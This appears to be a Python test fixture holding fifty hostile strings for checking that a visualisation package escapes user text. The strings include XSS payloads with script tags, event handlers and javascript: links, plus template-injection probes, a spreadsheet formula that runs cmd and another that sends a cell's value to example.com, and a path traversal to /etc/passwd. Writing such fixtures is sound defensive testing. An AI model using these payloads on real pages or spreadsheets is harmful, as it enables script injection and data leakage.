"""Fifty texts that would like to be a script, mark-up, a formula, or another text than they are.

Whatever a reader of a page sees may have been written by somebody else: tokens, words, labels, prompts, their ids and
groups, names of models, the fragment of an address. A page shows each of these as text. What runs sets the page's title
to "pwned" or `window.pwned`; what becomes an element is found by `INTRUDERS`.
"""

from __future__ import annotations

_RUN = "document.title='pwned'"
LONG = "x" * 50_000 + f"<img src=x onerror={_RUN}>" + "y" * 50_000  # a token of 100 kB
HOSTILE: tuple[str, ...] = (
    # tags and event handlers
    f"</script><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",  # circuitsvis turns white space into entities, so one without any
    "<!--<script>",
    "&lt;b&gt;",
    "a\u2028b",
    "\x00",
    "\u202eevil",
    "$x^2$",
    "%{x}",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
    f"<math><mi xlink:href=\"javascript:{_RUN}\">x</mi></math>",
    f"<a href=\"javascript:{_RUN}\">click</a>",
    "<meta http-equiv=refresh content=\"0;url=https://example.com/\">",
    "<link rel=stylesheet href=https://example.com/x.css>",
    "<base href=https://example.com/>",
    "<form action=https://example.com/><button>go</button></form>",
    f"<style onload={_RUN}>*{{display:none}}</style>",
    "</style><style>body{display:none}",
    "</textarea></title></template></details></table>",
    # out of an attribute, a string, a comment, a CDATA section
    f"\" onmouseover=\"{_RUN}\" x=\"",
    f"' autofocus onfocus='{_RUN}",
    f"';{_RUN};//",
    f"\\\";{_RUN};//",
    f"`${{{_RUN}}}`",
    "]]>",
    "-->",
    "*/",
    # templates, mark-down, mathematics, plotly's mark-up
    "{{ 7*7 }}",
    "{% include 'document.html' %}",
    "{{ ''.__class__.__mro__ }}",
    f"[x](javascript:{_RUN})",
    "![x](https://example.com/x.png)",
    "\\(x^2\\) $$\\href{javascript:alert(1)}{x}$$",
    f"<b>bold</b><a href=\"javascript:{_RUN}\">x</a><br>",
    # signs that move or hide others, ends of lines
    "\u2067right\u2069\u200fto\u200eleft",
    "zero\u200bwidth\ufeff\u2060",
    "\u2029\u0085\x1b[31mred\r\n",
    "a\u0301\u0302\u0303\u0304e\u0301",
    # formulas of a spreadsheet
    "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    # names of JavaScript and of files, and size
    "__proto__",
    "../../etc/passwd?x=1#/layer/5",
    LONG,
)  # fmt: skip
SHORT = tuple(text for text in HOSTILE if text is not LONG)  # for what cannot hold 100 kB each, such as a menu
RAN = "document.title === 'pwned' || 'pwned' in window"
# elements and attributes that no page of this package has of its own
_FOREIGN = (
    "img, iframe, object, embed, base, form[action], math, script[src], link[rel=stylesheet],"
    ' meta[http-equiv=refresh], a[href^="javascript:"]'
)
INTRUDERS = (
    f"[...document.querySelectorAll('{_FOREIGN}'), ...[...document.querySelectorAll('*')].filter("
    "e => [...e.attributes].some(a => a.name.startsWith('on')))].map(e => e.outerHTML.slice(0, 200))"
)
